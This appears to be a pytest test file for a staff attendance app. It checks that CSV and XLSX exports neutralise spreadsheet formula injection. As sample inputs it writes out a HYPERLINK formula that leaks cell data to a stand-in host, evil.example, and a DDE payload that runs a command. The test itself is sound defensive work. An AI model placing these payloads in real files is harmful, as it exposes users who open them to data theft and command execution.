"""Formula injection: text that came in through an import (a name, a position, a note, a
report) goes out of every CSV and XLSX export as text, never as a formula a spreadsheet runs.

CSV: a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP's
list) gets a leading apostrophe.  XLSX: such a cell is a text cell (``data_type`` "s", never
"f") with Excel's quote prefix, so it shows as typed and is not evaluated."""
import csv
import datetime as dt

import pytest
from openpyxl import load_workbook

from wfh_desktop import attendance as att
from wfh_desktop import recap as rec
from wfh_desktop import register, roster, scheduler
from wfh_desktop import reports as rep
from wfh_desktop.staff import STAFF_FILE
from wfh_desktop.tabular import FORMULA_START, write_table

from .scenario import Org, policy

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
MON = dt.date(2020, 3, 23)
SE = """
number = "800/1/BKD"
title = "Sistem kerja"
signed_on = 2020-03-20
valid_from = 2020-03-23
valid_to = 2020-03-27
"""


@pytest.fixture
def hostile(database):
    """A register whose texts begin with every formula character."""
    org = Org(database).unit("BKD", name=LINK)
    org.person(LINK, "BKD")
    org.staff[-1]["jabatan"] = "+1+1"
    org.person("@SUM(A1:A9)", "BKD")
    org.staff[-1]["jabatan"] = "-2+3"
    org.build()
    scheduler.generate(database, policy(database, SE))
    first = database.execute("SELECT id, nip FROM staff WHERE name = ?", [LINK]).fetchone()
    att.key_entries(database, [{"nip": first[1], "date": MON.isoformat(), "status": "H",
                                "note": "=1+1"}], by="test")
    report, _ = rep.add_report(database, first[0], MON, LINK)
    rep.review_report(database, report.id, "returned", "@perbaiki", by="test")
    return database


def cells(path):
    """Every cell of an exported file: (value, data type, quote prefix) for XLSX,
    (value, None, None) for CSV."""
    if str(path).endswith(".csv"):
        with open(path, encoding="utf-8-sig", newline="") as fh:
            return [(v, None, None) for row in csv.reader(fh) for v in row]
    wb = load_workbook(path)
    return [(c.value, c.data_type, c.quotePrefix) for ws in wb.worksheets
            for row in ws.iter_rows() for c in row if c.value is not None]


def assert_no_formula(path, expected: str):
    found = cells(path)
    for value, data_type, quoted in found:
        if data_type is None:  # CSV: neutralised with an apostrophe
            assert not str(value).startswith(FORMULA_START), value
        else:
            assert data_type != "f", value
            if isinstance(value, str) and value.startswith(FORMULA_START):
                assert quoted, value
    shown = {v for v, *_ in found}
    if str(path).endswith(".csv"):
        assert f"'{expected}" in shown, shown
    else:  # XML reads a carriage return back as a line feed
        assert expected.replace("\r", "\n") in shown, shown


EXPORTS = {
    "units": (lambda db, path: register.export_units(db, path), LINK),
    "staff": (lambda db, path: register.export_staff(db, path), "-2+3"),
    "schedule": (lambda db, path: roster.export_schedule(db, path, MON, MON), "@SUM(A1:A9)"),
    "attendance": (lambda db, path: att.export_attendance(db, path, MON, MON), "=1+1"),
    "reports": (lambda db, path: rep.export_reports(db, path, MON, MON), "@perbaiki"),
    "recap": (lambda db, path: rec.write_recap(rec.recap_data(db, "2020-03"), path), LINK),
}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("export", list(EXPORTS))
def test_no_export_writes_a_formula(hostile, tmp_path, export, suffix):
    write, expected = EXPORTS[export]
    path = tmp_path / f"{export}{suffix}"
    write(hostile, path)
    assert_no_formula(path, expected)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_rejected_rows_file_writes_no_formula(database, tmp_path, suffix):
    Org(database).unit("BKD").build()
    path = tmp_path / "staff.csv"
    path.write_text(f'nama,jenis_pegawai,unit\n"{LINK.replace(chr(34), chr(34) * 2)}",XYZ,BKD\n',
                    encoding="utf-8")
    rejects = tmp_path / f"rejects{suffix}"
    register.import_staff(database, path, skip_invalid=True, rejects=rejects)
    assert_no_formula(rejects, LINK)


@pytest.mark.parametrize("prefix", FORMULA_START)
def test_every_formula_character_is_neutralised(tmp_path, prefix):
    """The writer every export above goes through (the recap has its own, tested above)."""
    value = f"{prefix}cmd|' /C calc'!A0"
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"x{suffix}"
        write_table(path, STAFF_FILE, [{"nama": value}])
        assert_no_formula(path, value)
